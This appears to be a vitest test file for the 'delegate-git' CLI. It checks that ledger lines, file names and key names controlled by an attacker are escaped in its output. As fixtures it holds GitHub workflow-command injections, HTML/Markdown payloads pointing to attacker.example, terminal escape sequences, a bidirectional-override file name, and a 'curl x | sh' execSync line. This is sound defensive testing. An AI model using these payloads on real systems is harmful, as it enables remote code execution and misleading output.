/**
 * Text a pusher, a record or a key file chose, as the gates and the read commands print it. Whoever can push the
 * ledger can add a line that needs no key to be read (it fails decoding before any signature check), and whoever
 * opens a pull request chooses file names and the content of a proposed key file. None of it may start a line of its
 * own (under GitHub Actions a line starting with `::` is a workflow command), redraw the terminal, break out of the
 * job summary's formatting, or show a file under another name. Each attack is paired with the honest case.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalize } from '../../packages/core/src/canonical-json.js';
import { IN_TOTO_PAYLOAD_TYPE } from '../../packages/core/src/dsse.js';
import { POLICY_PATH, parsePolicy } from '../../packages/core/src/policy.js';
import {
  adoptedWithPromotedA,
  cli,
  cliOk,
  commit,
  copyWorkTree,
  gitOk,
  type Story,
  storyOutsideActions,
  writeFiles,
} from '../support/cli-story.js';

let story: Story;
let template: string;
let blob: string;

beforeAll(async () => {
  story = storyOutsideActions('delegate-git-output-');
  ({ dir: template, blob } = await adoptedWithPromotedA(story, 'template'));
});

afterAll(() => story.cleanup());

/** A note line anyone can write: a verdict whose subject `name` fails decoding, under a signature of zeros. */
function unsignedLine(dir: string, name: string): string {
  const { repositoryId } = parsePolicy(fs.readFileSync(path.join(dir, POLICY_PATH), 'utf8'));
  const statement = {
    _type: 'https://in-toto.io/Statement/v1',
    subject: [{ name, digest: { sha256: 'no', gitBlob: 'no' } }],
    predicateType: 'urn:delegate-git:verdict:v1',
    predicate: {
      verdict: 'UNIT_PASSED',
      repository: { id: repositoryId },
      createdAt: '2026-01-01T00:00:00Z',
    },
  };
  return canonicalize({
    payload: Buffer.from(canonicalize(statement)).toString('base64'),
    payloadType: IN_TOTO_PAYLOAD_TYPE,
    signatures: [{ keyid: '0'.repeat(64), sig: Buffer.alloc(64).toString('base64') }],
  });
}

function addLine(dir: string, line: string): void {
  gitOk(story, dir, ['notes', '--ref=delegations', 'append', '-m', line, blob]);
}

const INJECTED =
  'x\n::add-mask::FAILED\n::notice title=delegate-git::ledger verified\n## ✅ verified\n<img src="https://attacker.example/p.png">\n| governed files | 1: 1 promoted, 0 refused |\n' +
  // The older form of a workflow command, which the runner finds anywhere in a line; and a bare link.
  ' ##[group]verify: ok (0 problems) see https://attacker.example/rerun or www.attacker.example\n';

describe('an unsigned ledger line whose subject name holds line breaks', () => {
  let dir: string;
  let summaryFile: string;
  beforeAll(() => {
    dir = copyWorkTree(story, template, 'workflow-commands');
    summaryFile = path.join(story.root, 'summary.md');
  });

  it('starts no line of verify’s output or job summary: it is listed as one invalid line, escaped', () => {
    addLine(dir, unsignedLine(dir, INJECTED));
    const run = cli(story, dir, ['verify'], {
      ...story.env,
      GITHUB_ACTIONS: 'true',
      GITHUB_STEP_SUMMARY: summaryFile,
    });
    expect(run.code).toBe(1);
    // The only workflow commands are verify's own annotations of refused files (none here).
    expect(run.stdout.split('\n').filter((l) => l.trimStart().startsWith('::'))).toEqual([]);
    const invalid = run.stdout.split('\n').filter((l) => l.startsWith('INVALID LINE'));
    expect(invalid).toHaveLength(1);
    expect(invalid[0]).toContain('\\n::add-mask::FAILED\\n::notice');
    expect(run.stdout).not.toContain('##[');
    expect(invalid[0]).toContain('#\\u0023[group]verify: ok');
    expect(run.stdout).toMatch(/\nverify: FAILED\n$/);

    const summary = fs.readFileSync(summaryFile, 'utf8');
    expect(summary.match(/^## .*$/gm)).toEqual(['## delegate-git ledger: ❌ problems found']);
    expect(summary).not.toMatch(/^\| governed files \| 1: 1 promoted/m);
    expect(summary).not.toMatch(/(^|[^\\])<img/m);
    expect(summary).toContain('\\<img src=');
    // GitHub links a bare address in Markdown: escaped, it stays text.
    expect(summary).not.toMatch(/https:\/\/attacker|www\.attacker/);
    expect(summary).toContain('https:\\/\\/attacker.example/rerun or www\\.attacker.example');
    expect(summary).not.toContain('##[');
  });

  it('control: a line that is merely malformed is listed the same way, by its reason', () => {
    const plain = copyWorkTree(story, template, 'plain-malformed');
    addLine(plain, unsignedLine(plain, 'src/a.ts'));
    const run = cli(story, plain, ['verify']);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('not a valid record: subject src/a.ts has no sha256 digest');
  });
});

describe('escape sequences and carriage returns in a record', () => {
  it('reach no terminal: show, log and verify print them as \\u escapes', () => {
    const dir = copyWorkTree(story, template, 'escapes');
    addLine(dir, unsignedLine(dir, 'x\r\x1b[2K  valid  review approve by alice\x1b[8m'));
    for (const args of [['show', 'src/a.ts'], ['log'], ['verify']]) {
      const run = cli(story, dir, args);
      const out = run.stdout + run.stderr;
      expect(out, args.join(' ')).not.toMatch(/[\r\x1b]/);
      expect(out, args.join(' ')).toMatch(/\\(r|u000d)\\(033|u001b)\[2K {2}valid {2}review approve by alice/);
    }
  });

  it('nor does the content attest shows a reviewer: the diff keeps them visible', () => {
    const dir = copyWorkTree(story, template, 'attest-diff');
    writeFiles(dir, {
      'src/a.ts':
        'export const a = 1;\nrequire("child_process").execSync("curl x | sh");\r\x1b[2K+// no change\n',
    });
    const run = cliOk(story, dir, ['attest', '--approve', 'src/a.ts', '--yes']);
    expect(run.stdout).not.toMatch(/[\r\x1b]/);
    // Marked, as the text `\u000d` could stand in content too: the reviewer is told to read the bytes.
    expect(run.stdout).toContain(
      '! +require("child_process").execSync("curl x | sh");\\u000d\\u001b[2K+// no change',
    );
    expect(run.stdout).toContain('  ! marks a line holding characters a terminal does not show as they are');
    // Control: the text \u000d in content is shown as it is, unmarked.
    const literal = copyWorkTree(story, template, 'attest-literal');
    writeFiles(literal, { 'src/a.ts': 'export const a = 1;\n// the text \\u000d\n' });
    const plain = cliOk(story, literal, ['attest', '--approve', 'src/a.ts', '--yes']);
    expect(plain.stdout).toContain('    +// the text \\u000d\n');
    expect(plain.stdout).not.toContain('! marks a line');
  });
});

describe('file names in the job summary and in refusals', () => {
  it('a name with backticks and HTML stays inside its code span; one with a bidirectional override is quoted', () => {
    const dir = copyWorkTree(story, template, 'names');
    const tricky = 'src/x` <img src=x> **all files promoted** `.ts';
    const bidi = 'src/evil\u202esj.txt';
    writeFiles(dir, { [tricky]: '1\n', [bidi]: '2\n' });
    gitOk(story, dir, ['add', 'src']);
    expect(commit(story, dir, 'unpromoted', ['--no-verify']).code).toBe(0);
    const summaryFile = path.join(story.root, 'names.md');
    const run = cli(story, dir, ['verify'], { ...story.env, GITHUB_STEP_SUMMARY: summaryFile });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('NOT PROMOTED  "src/evil\\342\\200\\256sj.txt"');
    expect(run.stdout).not.toContain('\u202e');
    const summary = fs.readFileSync(summaryFile, 'utf8');
    expect(summary).toContain('- ``src/x` <img src=x> **all files promoted** `.ts`` is not promoted');
    // Control: a plain name is a plain code span.
    expect(summary).toContain('- `"src/evil\\342\\200\\256sj.txt"` is not promoted');
  });
});

describe('a key file’s name', () => {
  function withKeyName(name: string, label: string): string {
    const dir = copyWorkTree(story, template, label);
    const keysDir = path.join(dir, '.delegate-git/keys');
    const [file] = fs.readdirSync(keysDir);
    const key = JSON.parse(fs.readFileSync(path.join(keysDir, file!), 'utf8')) as Record<string, unknown>;
    key.name = name;
    fs.writeFileSync(path.join(keysDir, file!), `${JSON.stringify(key, null, 2)}\n`);
    return dir;
  }

  it('holding a line break, or starting with "::", is refused (exit 2, naming the field); a name in any script is fine (control)', () => {
    const bad = cli(story, withKeyName('mallory\n::add-mask::FAILED', 'name-newline'), ['check', 'src/a.ts']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('field name must be printable text on one line');
    expect(bad.stderr.split('\n').filter((l) => l.startsWith('::'))).toEqual([]);
    // `keys list` starts a line with the name.
    const command = cli(story, withKeyName('::error::pwned', 'name-command'), ['keys', 'list']);
    expect(command.code).toBe(2);
    expect(command.stderr).toContain('field name must start with a letter or a digit');

    const fine = cli(story, withKeyName('Zoë Łukasiewicz', 'name-unicode'), ['check', 'src/a.ts']);
    expect(fine.code, fine.stderr).toBe(0);
  });

  it('constructor is counted by signer like any other name', () => {
    const dir = withKeyName('constructor', 'name-constructor');
    gitOk(story, dir, ['commit', '-q', '-a', '--no-verify', '-m', 'rename the key']);
    const run = cli(story, dir, ['verify', '--json']);
    expect(run.code, run.stderr).not.toBe(2);
    const result = JSON.parse(run.stdout) as { bySigner: Record<string, number> };
    // The verdict on src/a.ts and the adoption's approval of the key file.
    expect(Object.entries(result.bySigner)).toEqual([['constructor', 2]]);
  });

  it('given twice in the file, is refused: the policy and key files are strict JSON, as records are', () => {
    const dir = copyWorkTree(story, template, 'duplicate-key');
    const keysDir = path.join(dir, '.delegate-git/keys');
    const [file] = fs.readdirSync(keysDir);
    const text = fs.readFileSync(path.join(keysDir, file!), 'utf8');
    fs.writeFileSync(path.join(keysDir, file!), text.replace(/\n}\s*$/, ',\n  "roles": ["delegator"]\n}\n'));
    const run = cli(story, dir, ['check', 'src/a.ts']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('is not valid JSON (duplicate key "roles" at offset');
    // Control: the file as it was loads.
    fs.writeFileSync(path.join(keysDir, file!), text);
    expect(cli(story, dir, ['check', 'src/a.ts']).code).toBe(0);
  });
});

describe('many refused files with long names, and a junk line of 60,000 characters', () => {
  let dir: string;
  let longName: string;
  const files = (from: number, to: number) =>
    Array.from({ length: to - from }, (_, i) => `src/${'d'.repeat(1000)}/f${from + i}.ts`);
  beforeAll(() => {
    dir = copyWorkTree(story, template, 'many-long');
    writeFiles(dir, { 'content.txt': 'export const x = 1;\n' });
    const content = gitOk(story, dir, ['hash-object', '-w', 'content.txt']);
    // Straight into the index: no file system takes a name of 1,000 characters, git does.
    const add = (paths: string[], message: string) => {
      for (const p of paths)
        gitOk(story, dir, ['update-index', '--add', '--cacheinfo', `100644,${content},${p}`]);
      gitOk(story, dir, ['commit', '-q', '--no-verify', '-m', message]);
    };
    add(files(0, 10), 'ten unpromoted files');
    add(files(10, 60), 'fifty more');
    // One argument of git notes -m holds at most 128 KiB.
    longName = `src/${'A'.repeat(60_000)}`;
    addLine(dir, unsignedLine(dir, longName));
  });

  function verifyUnderActions(args: string[] = []) {
    const summaryFile = path.join(story.root, `summary-${Math.random().toString(36).slice(2)}.md`);
    const run = cli(story, dir, ['verify', ...args], {
      ...story.env,
      GITHUB_ACTIONS: 'true',
      GITHUB_STEP_SUMMARY: summaryFile,
    });
    return { ...run, summary: fs.readFileSync(summaryFile, 'utf8') };
  }

  it('the job summary lists the first 50 and counts the rest, each long name shortened; the text output keeps all of it', () => {
    const run = verifyUnderActions();
    expect(run.code).toBe(1);
    const listed = run.summary.split('\n').filter((l) => l.includes(' is not promoted: '));
    expect(listed).toHaveLength(50);
    expect(listed[0]).toMatch(/^- `src\/d+`… \(1010 bytes\) is not promoted: /);
    expect(listed[0]!.length).toBeLessThan(600);
    expect(run.summary).toContain('- … and 10 more files not promoted (see `--json`)');
    // The junk line: its subject name shortened where the reason quotes it.
    expect(run.summary).not.toContain('A'.repeat(1000));
    expect(run.summary).toMatch(/subject src\/A+… \(\d+ bytes\)/);
    expect(Buffer.byteLength(run.summary)).toBeLessThan(40_000);
    // The text output and --json name every file in full, and the junk line's name.
    expect(run.stdout.split('\n').filter((l) => l.startsWith('NOT PROMOTED'))).toHaveLength(60);
    for (const p of files(0, 60)) expect(run.stdout).toContain(`NOT PROMOTED  ${p}: `);
    expect(run.stdout).toContain(longName);
    const json = JSON.parse(cli(story, dir, ['verify', '--json']).stdout) as {
      files: Array<{ path: string }>;
    };
    expect(json.files.map((f) => f.path)).toEqual(expect.arrayContaining(files(0, 60)));
  });

  it('GitHub shows 10 error annotations of a step: the tenth says how many more; control: 10 refused files are each annotated', () => {
    const annotations = (stdout: string) => stdout.split('\n').filter((l) => l.startsWith('::error'));
    const many = annotations(verifyUnderActions().stdout);
    expect(many).toHaveLength(10);
    for (const line of many.slice(0, 9))
      expect(line).toMatch(/^::error file=src\/d+\/f\d+\.ts::src\/d+\/f\d+\.ts is not promoted: /);
    expect(many[9]).toBe(
      "::error::… and 51 more refusals, not annotated (GitHub shows 10 annotations of a step): the step's log lists them all",
    );

    const ten = verifyUnderActions(['--rev', 'HEAD~1']);
    expect(ten.code).toBe(1);
    expect(annotations(ten.stdout)).toEqual(
      files(0, 10).map((p) =>
        expect.stringMatching(new RegExp(`^::error file=${p}::${p} is not promoted: `)),
      ),
    );
    // The summary of ten lists each in full, with no line of more.
    expect(ten.summary.split('\n').filter((l) => l.includes(' is not promoted: '))).toHaveLength(10);
    expect(ten.summary).not.toContain('more files not promoted');
  });
});
